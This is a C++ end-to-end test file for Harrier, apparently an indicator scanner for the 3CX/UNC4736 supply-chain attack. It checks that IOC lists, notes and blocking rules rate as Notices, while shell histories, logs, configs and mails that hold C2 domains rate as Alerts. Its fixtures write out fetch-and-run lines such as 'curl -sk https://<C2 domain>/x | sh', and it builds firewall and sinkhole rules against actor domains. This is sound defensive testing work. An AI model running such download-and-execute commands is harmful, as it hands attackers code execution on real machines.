// Alerts must mean compromise: intel material (IOC lists, rule files, intel
// exports, Harrier's own reports, notes that collect indicators) and
// indicators in blocking rules are Notices; one C2 indicator in a shell
// history, a web-server log, a browser history or a hijacked hosts file stays
// an Alert. Indicator values are read from the shipped rules at test time, so
// this file carries none.
#include <gtest/gtest.h>

#include <filesystem>
#include <fstream>
#include <sstream>

#include "e2e/jsonl.h"
#include "testutil/testutil.h"

namespace harrier::testing {
namespace {

std::string RulesText(const std::string& rel) {
  return ReadWholeFile(SourceDir() + "/rules/packs/3cx-unc4736/" + rel);
}

// The actor domains of the built-in C2 list (no URLs, no IPs).
std::vector<std::string> C2Domains() {
  std::vector<std::string> out;
  std::istringstream in(RulesText("iocs/c2-iocs-3cx-unc4736.txt"));
  for (std::string line; std::getline(in, line);) {
    if (line.empty() || line[0] == '#') continue;
    std::string ind = line.substr(0, line.find(';'));
    if (ind.find('/') == std::string::npos && !std::isdigit(static_cast<unsigned char>(ind[0])))
      out.push_back(ind);
  }
  EXPECT_GE(out.size(), 6u);
  return out;
}

Jsonl Scan(const std::vector<std::string>& args, int* code = nullptr) {
  std::vector<std::string> a = {"scan", "--no-progress", "--no-rules-cache", "--jsonl", "-"};
  a.insert(a.end(), args.begin(), args.end());
  auto r = RunHarrier(a, 300);
  if (code) *code = r.exit_code;
  return ParseJsonl(r.out);
}

std::string Level(const Jsonl& j, const std::string& path) {
  auto it = j.findings.find(path);
  return it == j.findings.end() ? "none" : it->second["harrier"]["level"].get<std::string>();
}

bool HasReason(const Jsonl& j, const std::string& path, const std::string& name) {
  auto it = j.findings.find(path);
  if (it == j.findings.end()) return false;
  for (const auto& r : it->second["harrier"]["reasons"])
    if (r["name"] == name) return true;
  return false;
}

TEST(IntelContextE2E, IntelMaterialIsANoticeAndTracesStayAlerts) {
  const auto d = C2Domains();
  TempDir t;
  // Intel material.
  const std::string list = t.Write("clone/rules/iocs/c2-iocs-copy.txt", RulesText("iocs/c2-iocs-3cx-unc4736.txt"));
  const std::string yar = t.Write("analysis/hunt.yar",
                                  "rule Hunt_C2 {\n  strings:\n    $a = \"" + d[0] + "\"\n    $b = \"" +
                                      d[1] + "\"\n  condition:\n    any of them\n}\n");
  std::string py = "#!/usr/bin/env python3\n# writes test data for the detector\nDOMAINS = [\n";
  for (size_t i = 0; i < 5; ++i) py += "    \"" + d[i] + "\",\n";
  py += "]\nfor x in DOMAINS:\n    print(f\"GET https://{x}/ 200\")\n";
  const std::string script = t.Write("work/gen_3cx_testdata.py", py);
  const std::string notes = t.Write(
      "home/admin/incident-notes.txt",
      "# 3CX cleanup\n\nBlocked " + d[0] + ", " + d[1] + ", " + d[2] + " and " + d[3] +
          " at the proxy on Monday; no host contacted them after the update.\n");
  const std::string stix = t.Write(
      "exports/3cx.stix.json",
      "{\"type\": \"bundle\", \"objects\": [{\"type\": \"indicator\", \"pattern\": \"[domain-name:value = '" +
          d[0] + "']\"}]}\n");
  // Blocking rules.
  const std::string dnsmasq = t.Write("etc/dnsmasq.d/sinkhole.conf", "address=/" + d[0] + "/0.0.0.0\n");
  const std::string squid = t.Write(
      "etc/squid/squid.conf",
      "acl c2 dstdomain ." + d[1] + "\nhttp_access deny c2\nhttp_access allow localnet\n");
  const std::string hosts = t.Write("etc/hosts", "127.0.0.1 localhost\n0.0.0.0 " + d[2] + "\n");
  const std::string fw = t.Write("etc/nftables.d/block.sh",
                                 "#!/bin/sh\niptables -A OUTPUT -m string --string " + d[3] +
                                     " --algo bm -j DROP\n");
  // Traces.
  const std::string hist = t.Write("home/bob/.bash_history", "ls\ncurl -sk https://" + d[0] + "/x | sh\n");
  const std::string access = t.Write(
      "var/log/nginx/access.log",
      "10.0.0.5 - - [22/Mar/2023:10:00:00 +0000] \"GET / HTTP/1.1\" 200 12 \"https://" + d[1] +
          "/\" \"Mozilla/5.0\"\n");
  std::string sqlite("SQLite format 3\0", 16);
  sqlite += std::string(84, '\0') + "urls https://" + d[2] + "/v2/storage title";
  const std::string chrome = t.Write("home/bob/.config/google-chrome/Default/History", sqlite);
  const std::string hijack = t.Write("mnt/other/etc/hosts", "127.0.0.1 localhost\n203.0.113.7 " + d[3] + "\n");

  int code = 0;
  Jsonl j = Scan({t.path()}, &code);
  for (const auto& p : {list, script, notes}) {
    EXPECT_EQ(Level(j, p), "notice") << p << "\n" << (j.findings.count(p) ? j.findings.at(p).dump(1) : "");
    EXPECT_TRUE(HasReason(j, p, "context.indicator_list")) << p;
  }
  // .yar and .json are outside the default selection; with every file read
  // they are Notices too.
  Jsonl all = Scan({"--all-files", t.path()});
  for (const auto& p : {list, yar, script, notes, stix}) {
    EXPECT_EQ(Level(all, p), "notice") << p << "\n" << (all.findings.count(p) ? all.findings.at(p).dump(1) : "");
    EXPECT_TRUE(HasReason(all, p, "context.indicator_list")) << p;
  }
  EXPECT_EQ(all.summary["findings"]["alert"], 4) << all.summary.dump();
  for (const auto& p : {dnsmasq, squid, hosts, fw}) {
    EXPECT_EQ(Level(j, p), "notice") << p << "\n" << (j.findings.count(p) ? j.findings.at(p).dump(1) : "");
    EXPECT_TRUE(HasReason(j, p, "context.blocked_indicator")) << p;
  }
  for (const auto& p : {hist, access, chrome, hijack})
    EXPECT_EQ(Level(j, p), "alert") << p << "\n" << (j.findings.count(p) ? j.findings.at(p).dump(1) : "");
  EXPECT_EQ(code, 1);

  // With the context off, the material alerts again (the switch works).
  Jsonl off = Scan({"--no-intel-context", list});
  EXPECT_EQ(Level(off, list), "alert");
}

TEST(IntelContextE2E, OldReportsAreNoticesAndTheRunningScansOutputIsNotScanned) {
  const auto d = C2Domains();
  TempDir t;
  t.Write("victim/home/bob/.bash_history", "curl https://" + d[0] + "/\n");
  const std::string reports = t.Mkdir("reports");
  auto r = RunHarrier({"scan", "--no-progress", "--jsonl", reports + "/old.jsonl", "--html",
                       reports + "/old.html", "--csv", reports + "/old.csv", t.path() + "/victim"});
  ASSERT_EQ(r.exit_code, 1) << r.err;
  {
    std::ofstream(reports + "/old.txt") << r.out;
  }
  // The reports, scanned later, are Notices (or nothing).
  Jsonl j = Scan({reports});
  for (const std::string n : {"old.jsonl", "old.html", "old.csv", "old.txt"}) {
    std::string lvl = Level(j, reports + "/" + n);
    EXPECT_TRUE(lvl == "notice" || lvl == "none") << n << ": " << lvl;
  }
  EXPECT_EQ(j.summary["findings"]["alert"], 0);

  // Standard output redirected into the scanned tree is never scanned: the
  // file already holds a line that would alert.
  const std::string log = t.Write("victim/scan.log", "curl https://" + d[1] + "/\n");
  std::string sh = FindProgram("sh");
  ASSERT_FALSE(sh.empty());
  auto r2 = RunProgram({sh, "-c", "'" + HarrierBinary() + "' scan --no-progress --no-rules-cache --jsonl - '" +
                                      t.path() + "/victim' >> '" + log + "'"});
  ASSERT_EQ(r2.exit_code, 1) << r2.err;  // harrier's: the history alerts
  std::string text = ReadWholeFile(log);
  Jsonl out = ParseJsonl(text.substr(text.find('\n') + 1));
  EXPECT_EQ(out.findings.count(log), 0u) << "the scan read its own output";
  EXPECT_GE(out.summary["skipped"]["excluded"].get<uint64_t>(), 1u);
  EXPECT_EQ(Level(out, t.path() + "/victim/home/bob/.bash_history"), "alert");
}

}  // namespace
}  // namespace harrier::testing

namespace harrier::testing {
namespace {

// Installer file names of the affected builds, as keywords in content: a
// download in a proxy log or a browser history is a Warning; other builds
// and longer names are near-misses.
TEST(InstallerKeywordsE2E, AffectedInstallerNamesInLogsAreWarnings) {
  std::vector<std::string> names;
  {
    std::istringstream f(RulesText("iocs/c2-keywords-3cx-unc4736.txt"));
    for (std::string line; std::getline(f, line);)
      if (!line.empty() && line[0] != '#') names.push_back(line.substr(0, line.find(';')));
  }
  ASSERT_GE(names.size(), 9u);
  const std::string msi = names[1];  // the 18.12.416 MSI
  std::string lower = msi;
  for (char& c : lower) c = static_cast<char>(std::tolower(static_cast<unsigned char>(c)));
  TempDir t;
  const std::string proxy = t.Write("var/log/squid/access.log",
                                    "1679479200.000 120 10.0.0.5 TCP_MISS/200 98765432 GET "
                                    "https://download.example/electron/windows/" + lower + " - DIRECT\n");
  const std::string hist = t.Write("home/bob/.bash_history",
                                   "msiexec /i C:\\Users\\bob\\Downloads\\" + names.back() + "\n");
  // Near-misses: a fixed build's installer, a longer version, an MSIX, a partial download.
  std::string fixed = msi;
  fixed.replace(fixed.find("18.12.416"), 9, "18.12.425");
  std::string longer = msi;
  longer.replace(longer.find("18.12.416"), 9, "18.12.4160");
  const std::string decoy = t.Write("var/log/nginx/access.log",
                                    "GET /" + fixed + " 200\nGET /" + longer + " 200\nGET /" + msi +
                                        "x 200\nGET /x" + msi + " 200\n");
  Jsonl j = Scan({t.path()});
  EXPECT_EQ(Level(j, proxy), "warning") << (j.findings.count(proxy) ? j.findings.at(proxy).dump(1) : "");
  EXPECT_EQ(Level(j, hist), "warning");
  EXPECT_EQ(Level(j, decoy), "none") << (j.findings.count(decoy) ? j.findings.at(decoy).dump(1) : "");
}

}  // namespace
// Incident notes with fewer indicators than make a collection: sentences
// about the incident are a Notice; the same domains in a dropped config, a
// shell script or a mail stay Alerts.
TEST(IntelContextE2E, NotesThatMentionAFewIndicatorsAreANotice) {
  const auto d = C2Domains();
  TempDir t;
  const std::string notes = t.Write(
      "home/admin/Documents/3cx-timeline.md",
      "# Timeline\n\n- The desktop app on the accounting laptop reached " + d[0] +
          " twice before we removed it.\n- " + d[1] +
          " was contacted by the second machine according to the proxy team.\n");
  const std::string config = t.Write("home/bob/.config/updater/settings.ini",
                                     "[server]\nhost = " + d[0] + "\n");
  const std::string script = t.Write("tmp/run.sh", "#!/bin/sh\n# keep the app up to date with the "
                                                   "vendor's servers every hour\ncurl -sk https://" +
                                                       d[1] + "/u | sh\n");
  const std::string mail = t.Write("home/bob/Mail/update.eml",
                                   "From: it@example.com\nSubject: update\n\nPlease download "
                                   "the new version of the app from https://" +
                                       d[0] + "/setup before Friday.\n");
  int code = 0;
  Jsonl j = Scan({"--all-files", t.path()}, &code);
  EXPECT_EQ(Level(j, notes), "notice") << (j.findings.count(notes) ? j.findings.at(notes).dump(1) : "");
  EXPECT_TRUE(HasReason(j, notes, "context.prose_mention"));
  for (const auto& p : {config, script, mail})
    EXPECT_EQ(Level(j, p), "alert") << p << "\n" << (j.findings.count(p) ? j.findings.at(p).dump(1) : "");
  EXPECT_EQ(code, 1);
}

// The analyst's machine may hold this project's own build: its test
// programs must not carry the indicators their tests use (tests write them
// with testutil's Indicator("a|b")), or a scan of the build tree alerts on
// the scanner's own tests. Scans the two test programs whole.
TEST(IntelContextE2E, TheTestProgramsCarryNoIndicators) {
  const std::string dir = std::filesystem::path(HarrierBinary()).parent_path().string() + "/tests";
  auto r = RunHarrier({"scan", "--no-progress", "--all-files", "--max-file-size", "1G", "--jsonl",
                       "-", dir + "/harrier_unit_tests", dir + "/harrier_e2e_tests"},
                      600);
  EXPECT_EQ(r.exit_code, 0) << r.out << r.err;
  EXPECT_EQ(r.out.find("\"type\":\"finding\""), std::string::npos) << r.out;
  EXPECT_NE(r.out.find("\"files_scanned\":2"), std::string::npos) << r.out;
}

}  // namespace harrier::testing
